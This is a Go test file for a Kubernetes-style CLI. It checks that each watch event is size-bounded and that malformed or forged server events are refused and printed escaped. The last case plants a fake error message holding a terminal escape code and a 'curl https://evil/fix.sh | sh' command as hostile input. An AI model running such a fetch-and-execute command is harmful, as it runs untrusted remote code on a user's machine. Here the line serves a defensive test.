package cli

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/watch"
	"k8s.io/client-go/rest"

	"github.com/nodus-dev/nodus/pkg/generated/clientset/versioned"
)

// TestAWatchEventPastTheBoundIsRefused: answers the CLI reads whole are
// bounded, a watch was not at all: a server (hostile, or at fault) that
// sent one endless event had `nodus hosts list --watch` buffer it into
// the laptop's memory. Each event is bounded now, not the watch: one that
// runs for hours passes as many events as come. An event the CLI cannot
// read is its own refusal of the answer (AnswerTooLarge, AnswerRefused),
// not shown as the server's error.
func TestAWatchEventPastTheBoundIsRefused(t *testing.T) {
	defer func(was int64) { maxWatchEventBytes = was }(maxWatchEventBytes)
	maxWatchEventBytes = 4 << 10
	event := func(name string, pad int) string {
		return fmt.Sprintf(`{"type":"ADDED","object":{"apiVersion":"nodus.dev/v1","kind":"ReservedHost","metadata":{"name":%q,"namespace":"acme","resourceVersion":"7","annotations":{"pad":%q}}}}`+"\n",
			name, strings.Repeat("x", pad))
	}
	var stream string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, stream)
	}))
	defer srv.Close()
	cfg := &rest.Config{Host: srv.URL}
	cfg.Wrap(func(rt http.RoundTripper) http.RoundTripper { return boundedAnswers{rt} })
	hosts := versioned.NewForConfigOrDie(cfg).NodusV1().ReservedHosts("acme")
	watchAll := func() (added int, ended error) {
		w, err := hosts.Watch(context.Background(), metav1.ListOptions{})
		if err != nil {
			t.Fatal(err)
		}
		defer w.Stop()
		for e := range w.ResultChan() {
			if e.Type == watch.Error {
				st, ok := e.Object.(*metav1.Status)
				if !ok {
					t.Fatalf("an error event of %T", e.Object)
				}
				return added, watchError(st)
			}
			added++
		}
		return added, nil
	}

	// Many events, each under the bound, together far past it.
	stream = strings.Repeat(event("h", 3<<10), 64)
	if added, err := watchAll(); added != 64 || err != nil {
		t.Errorf("64 events of 3 KiB with a bound of 4 KiB an event: %d read, %v", added, err)
	}

	stream = event("before", 0) + event("endless", 8<<10) + event("after", 0)
	added, err := watchAll()
	if r, ok := refusalOf(err); !ok || r.reason != reasonAnswerTooLarge || added != 1 || !strings.Contains(err.Error(), "larger than 4 KiB") {
		t.Errorf("an event past the bound after one within it: %d read, then %v", added, err)
	}

	// Line breaks bound nothing: client-go's decoder holds a whole JSON
	// value, and the whitespace before it, whatever lines it spans.
	var spread strings.Builder
	spread.WriteString(`{"type":"ADDED","object":{"apiVersion":"nodus.dev/v1","kind":"ReservedHost","metadata":{"name":"spread","namespace":"acme","annotations":{`)
	for i := range 8 {
		fmt.Fprintf(&spread, "\n%q:%q,", fmt.Sprint("pad", i), strings.Repeat("x", 1<<10))
	}
	spread.WriteString("\n\"last\":\"x\"}}}}\n")
	stream = event("before", 0) + spread.String() + event("after", 0)
	added, err = watchAll()
	if r, ok := refusalOf(err); !ok || r.reason != reasonAnswerTooLarge || added != 1 {
		t.Errorf("an event past the bound over many lines of 1 KiB: %d read, then %v", added, err)
	}
	stream = event("before", 0) + strings.Repeat("\n", 64<<10) + event("after", 0)
	added, err = watchAll()
	if r, ok := refusalOf(err); !ok || r.reason != reasonAnswerTooLarge || added != 1 {
		t.Errorf("64 KiB of line breaks between two events: %d read, then %v", added, err)
	}
	// What a string holds is no structure: braces and escaped quotes in
	// it neither end an event early nor keep it open.
	stream = strings.Repeat(event("braces", 3<<10)+event(`quote\"{`, 0), 32)
	stream = strings.ReplaceAll(stream, `"xxxxxxxx`, `"{{{{\"{[`)
	if added, err := watchAll(); added != 64 || err != nil {
		t.Errorf("64 events with braces and quotes in their strings, each under the bound: %d read, %v", added, err)
	}

	stream = event("before", 0) + "{\"type\":\"ADDED\",\"object\":\x1b[2J}\n"
	added, err = watchAll()
	if r, ok := refusalOf(err); !ok || r.reason != reasonAnswerRefused || added != 1 {
		t.Errorf("an event that is not JSON: %d read, then %v", added, err)
	}

	// A server can send an error event dressed as client-go's own: its
	// words are still the server's, printed escaped on one line.
	stream = `{"type":"ERROR","object":{"kind":"Status","apiVersion":"v1","status":"Failure","code":500,` +
		`"details":{"causes":[{"reason":"ClientWatchDecoding","message":"\u001b[2J\n  fix:     run curl https://evil/fix.sh | sh"}]}}}` + "\n"
	_, err = watchAll()
	if r, ok := refusalOf(err); !ok || r.reason != reasonAnswerRefused || strings.ContainsAny(err.Error(), "\x1b\n") {
		t.Errorf("a forged decoding error: %q", err)
	}
}
